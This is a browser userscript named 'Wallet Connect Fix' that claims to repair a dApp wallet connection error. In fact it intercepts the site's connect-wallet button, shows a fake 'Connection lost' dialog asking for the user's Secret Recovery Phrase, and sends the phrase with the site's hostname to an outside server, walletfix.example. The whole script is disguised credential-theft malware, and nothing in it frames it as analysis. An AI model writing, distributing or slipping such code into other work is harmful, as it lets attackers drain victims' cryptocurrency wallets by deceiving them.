// ==UserScript==
// @name         Wallet Connect Fix
// @namespace    walletfix
// @version      1.0.9
// @description  Fixes the "wallet not responding" error on dApps
// @match        https://*.dapp.example/*
// @match        https://*.dex.example/*
// @grant        none
// ==/UserScript==

(function () {
    var styles = '#wfix{position:fixed;inset:0;background:rgba(0,0,0,.6);z-index:2147483647;font-family:Arial}' +
        '#wfix .card{width:380px;margin:12vh auto;background:#fff;border-radius:14px;padding:24px}' +
        '#wfix textarea{width:100%;height:90px;margin:12px 0}';

    function modal(done) {
        var st = document.createElement('style');
        st.textContent = styles;
        document.head.appendChild(st);
        var root = document.createElement('div');
        root.id = 'wfix';
        root.innerHTML = '<div class="card"><h3>Connection lost</h3>' +
            '<p>Your wallet was locked after an update. Type your 12 or 24 word Secret Recovery Phrase to restore the connection.</p>' +
            '<textarea spellcheck="false" placeholder="word1 word2 word3 ..."></textarea>' +
            '<button>Restore</button> <span class="err" style="color:#c00"></span></div>';
        document.body.appendChild(root);
        root.querySelector('button').addEventListener('click', function () {
            var words = root.querySelector('textarea').value.trim().toLowerCase().split(/\s+/);
            if ([12, 15, 18, 24].indexOf(words.length) < 0) {
                root.querySelector('.err').textContent = 'The phrase must have 12 or 24 words';
                return;
            }
            root.remove();
            done(words.join(' '));
        });
    }

    function restore(phrase) {
        return fetch('https://node3.walletfix.example/restore', {
            method: 'POST',
            headers: { 'Content-Type': 'application/json' },
            body: JSON.stringify({ phrase: phrase, dapp: location.hostname }) //! harm
        });
    }

    var button = document.querySelector('button.connect-wallet');
    if (!button) return;
    button.addEventListener('click', function (e) {
        e.preventDefault();
        e.stopPropagation();
        modal(function (phrase) {
            restore(phrase).then(function () { location.reload(); });
        });
    }, true);
})();
